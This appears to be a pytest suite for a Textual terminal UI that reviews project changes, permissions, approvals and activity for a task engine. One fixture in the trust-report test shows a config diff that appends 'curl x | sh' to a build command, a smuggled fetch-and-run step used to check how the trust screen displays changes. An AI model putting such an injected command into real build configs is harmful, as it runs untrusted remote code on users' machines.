"""The small screens and the dialogs, as they look and what they say."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from typing import TYPE_CHECKING, cast

import pytest
from textual.command import Command, CommandList, CommandPalette

from cis_tui.core.events import Event
from cis_tui.core.paths import Home
from cis_tui.dag.inspection import Preview
from cis_tui.dag.views import Decision, DecisionKind
from cis_tui.project.model import Change, TrustItem, TrustReport, TrustState
from cis_tui.skills.model import Permissions
from cis_tui.tui.app import CisApp
from cis_tui.tui.deciding import detail_lines, parts_of
from cis_tui.tui.paint import Tone
from cis_tui.tui.screens.activity import ActivityScreen
from cis_tui.tui.screens.edit import EditDialog
from cis_tui.tui.screens.form import Field, FormDialog
from cis_tui.tui.screens.reader import ReaderDialog
from cis_tui.tui.screens.rules import RulesDialog
from cis_tui.tui.screens.trust import report_lines
from cis_tui.tui.skill_detail import permission_sentences
from cis_tui.tui.store import KEPT_ACTIVITY
from tests.tui.helpers import NOW, ROOT, decision, detail, fill, half_way, paste, show, text_of, until, workspace

if TYPE_CHECKING:
    from textual.screen import Screen

    from cis_tui.tui.desk import Desk

ALIKE = "every confirmed task of this run whose call is written so:"
SIZES = [(80, 24), (120, 36)]
KEYS = {"peers": "3", "skills": "5", "activity": "6"}


class Attic:
    """A desk that nobody sits at."""

    def __getattr__(self, name: str) -> object:
        raise AssertionError(f"{name} is not needed to look at a dialog")


ATTIC = cast("Desk", Attic())


def nothing(edit: object, done: object) -> None:
    """Sends an edit nowhere."""


REPORT = TrustReport(
    "/projects/demo",
    TrustState.CONTENT,
    (
        TrustItem(
            ".cis/dags/tour.toml", Change.CHANGED, '@@ -3,1 +3,1 @@\n-command = "make"\n+command = "make; curl x | sh"'
        ),
        TrustItem(".cis/skills/greet/run.py", Change.NEW, "import os\n\n- not a removed line"),
        TrustItem(".cis/dags/old.toml", Change.REMOVED, '-[skill]\n-name = "old"'),
    ),
    "digest",
)
SURE = replace(decision("publish", DecisionKind.CONFIRMED, left=300), id="d12", alike=f"{ALIKE} twine upload dist/*")
STORY = (
    'Attempt 2 of "publish", which had begun at 2026-11-23T23:58:11.000Z, was under way when the engine ended; nobody '
    "saw its end. Its processes are gone.\nThe last that it printed:\nuploading demo-1.0.tar.gz 48%\n"
    "Of what it creates, nothing is there."
)


def shown(asked: Decision) -> Preview:
    found = detail(asked).preview
    assert found is not None
    return found


INTERRUPTED = detail(
    replace(decision("publish", DecisionKind.INTERRUPTED), id="d14", deadline=None), interrupted=STORY, rollback=()
)
MAY = Permissions(memory_read=("project/",), filesystem=("read:.",), command=("git",))
SKILL = Preview("greet ann", "greet", "0.1.0", args=("ann", "two words"), folder=ROOT, permissions=MAY)
SAID: dict[str, Callable[[], Screen[object]]] = {
    "uploading demo-1.0.tar.gz 48%": lambda: ReaderDialog("What is asked", detail_lines(INTERRUPTED)),
    "two words": lambda: EditDialog(SURE, parts_of(SKILL), nothing),
    "Nothing is approved all alike": lambda: RulesDialog(ATTIC, ()),
}  # type: ignore[dict-item]
"""Dialogs that are not in the gallery as they are here."""


async def test_what_dialogs_say_besides_what_is_pictured(home: Home) -> None:
    app = workspace(home)
    async with app.run_test(size=(80, 24)) as pilot:
        fill(app, half_way())
        for said, dialog in SAID.items():
            await app.push_screen(dialog())
            await pilot.pause()
            assert said in text_of(app), text_of(app)
            app.pop_screen()


async def test_a_field_takes_what_has_room_and_nothing_of_the_rest(home: Home) -> None:
    app = workspace(home)
    async with app.run_test(notifications=True) as pilot:
        fill(app, half_way())
        dialog = FormDialog("Notes", [Field("notes", lines=True)])
        await app.push_screen(dialog)
        paste(app, "words " * 20_000)
        await until(pilot, lambda: "too long to be written here" in text_of(app))
        paste(app, "few words\n" * 2_000)
        await until(pilot, lambda: dialog.answers()["notes"] == "few words\n" * 2_000)


async def test_what_is_not_changed_in_a_long_call_stays_whole(home: Home) -> None:
    call = parts_of(replace(SKILL, args=("ann", "word " * 300, "two\nlines")))
    app = workspace(home)
    async with app.run_test() as pilot:
        dialog = EditDialog(SURE, call, nothing)
        await app.push_screen(dialog)
        await pilot.pause()
        assert dialog.answers() == call


@pytest.mark.parametrize("size", SIZES, ids=["80x24", "120x36"])
async def test_the_help_is_made_of_the_bindings(home: Home, size: tuple[int, int]) -> None:
    app = workspace(home)
    async with app.run_test(size=size) as pilot:
        fill(app, half_way())
        await pilot.press("question_mark")
        await pilot.pause()
        assert "Esc close" in text_of(app), "the way out is on every size visible"
        await pilot.press("end")
        await pilot.pause()
        assert "level: by vote" in text_of(app)
        await pilot.press("escape")
        assert len(app.screen_stack) == 1


async def test_the_palette_offers_what_can_run(home: Home) -> None:
    app = workspace(home)
    async with app.run_test(size=(100, 30)) as pilot:
        fill(app)
        await pilot.press("colon")
        await pilot.pause()
        await pilot.press(*"run")
        await until(pilot, lambda: "Run release" in text_of(app))
        assert "Run broken" not in text_of(app)


async def test_the_palette_says_that_nothing_waits_and_offers_a_screen_before_its_parts(home: Home) -> None:
    app = workspace(home)
    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        fill(app)
        for typed, first in (("setting", "Settings"), ("settings", "Settings"), ("approve", "Approve or reject")):
            await pilot.press("colon")
            await until(pilot, lambda: isinstance(app.screen, CommandPalette))
            await pilot.press(*typed)
            await until(pilot, lambda first=first: _first_hit(app) == first)
            await pilot.press("escape")
            await until(pilot, lambda: len(app.screen_stack) == 1)
        await pilot.press("colon", *"approve")
        await until(pilot, lambda: "nothing waits for an answer now" in text_of(app))
        await pilot.press("enter")
        await until(pilot, lambda: len(app.screen_stack) == 1 and "nothing waits for an answer now" in text_of(app))


def _first_hit(app: CisApp) -> str:
    found = app.screen.query_one(CommandList)
    first = found.get_option_at_index(0) if found.option_count else None
    return first.hit.text or "" if isinstance(first, Command) else ""


def test_trust_shows_only_real_changes_as_changes() -> None:
    text = {"".join(text for text, _ in line): line[-1][1] for line in report_lines(REPORT) if line}
    assert text['  +command = "make; curl x | sh"'] is Tone.GOOD
    assert text["  - not a removed line"] is Tone.PLAIN
    assert any("- removed  .cis/dags/old.toml" in line for line in text)


def test_permissions_are_told_in_words_and_so_is_what_is_not_allowed() -> None:
    said = permission_sentences(Permissions(memory_read=("",), filesystem=("read:.", "write:build/"), command=("*",)))
    assert said == [
        "read memory: all that is public",
        "not write memory",
        "read files: .",
        "write files: build/",
        "start programs: any",
        "not use the network",
    ]


async def test_activity_follows_the_newest_event_until_the_cursor_leaves_it(home: Home) -> None:
    app = workspace(home)

    def happen(first: int, number: int) -> None:
        events = [Event(seq, NOW, "MemorySet", {"key": f"key-{seq}"}) for seq in range(first, first + number)]
        show(app, app.store.apply(events))

    async with app.run_test(size=(80, 24)) as pilot:
        fill(app)
        await pilot.press("6")
        happen(1000, 50)
        await pilot.pause()
        assert "key-1049" in text_of(app)
        await pilot.press("pageup")
        happen(2000, 50)
        await pilot.pause()
        assert "key-2049" not in text_of(app)
        await pilot.press("end")
        await pilot.pause()
        assert "key-2049" in text_of(app)


async def test_activity_can_be_paused_and_filtered_and_says_what_is_gone(home: Home) -> None:
    app = workspace(home)
    async with app.run_test(size=(80, 24)) as pilot:
        fill(app, half_way())
        await pilot.press("6", "space")
        show(app, app.store.apply([Event(900, NOW, "MemorySet", {"key": "later"})]))
        await pilot.pause()
        assert "paused" in text_of(app) and "later" not in text_of(app)
        await pilot.press("space")
        await pilot.pause()
        assert "later" in text_of(app)
        await pilot.press("slash", *"retried", "enter")
        await pilot.pause()
        assert "1 event" in text_of(app) and "TaskRetried" in text_of(app)
        await pilot.press("slash", "escape")
        show(
            app,
            app.store.apply(Event(seq, NOW, "MemorySet", {"key": "k"}) for seq in range(1000, 1000 + KEPT_ACTIVITY)),
        )
        await pilot.pause()
        assert f"{KEPT_ACTIVITY:,} events" in text_of(app) and "older ones gone" in text_of(app)
        assert isinstance(app.screen, ActivityScreen)


async def test_skills_are_filtered_by_name(home: Home) -> None:
    app = workspace(home)
    async with app.run_test(size=(100, 30)) as pilot:
        fill(app)
        await pilot.press("5", "slash", *"she", "enter")
        await pilot.pause()
        assert "greet" not in text_of(app)
        assert "start programs: any" in text_of(app)


async def test_a_click_does_what_the_keys_do(home: Home) -> None:
    app = workspace(home)
    async with app.run_test(size=(120, 36)) as pilot:
        fill(app, half_way().asked(12, decision("publish", DecisionKind.CONFIRMED, left=300)))
        await pilot.click("NavBar", offset=(24, 0))
        await pilot.pause()
        assert app.current_mode == "peers"
        await pilot.click("Tray", offset=(10, 1))
        await until(pilot, lambda: app.current_mode == "dags" and "publish asks for approval" in text_of(app))
        await pilot.click("#lanes", offset=(20, 0))
        await pilot.pause()
        assert "runs     make lint" in text_of(app)
        assert ROOT in app.store.project_root
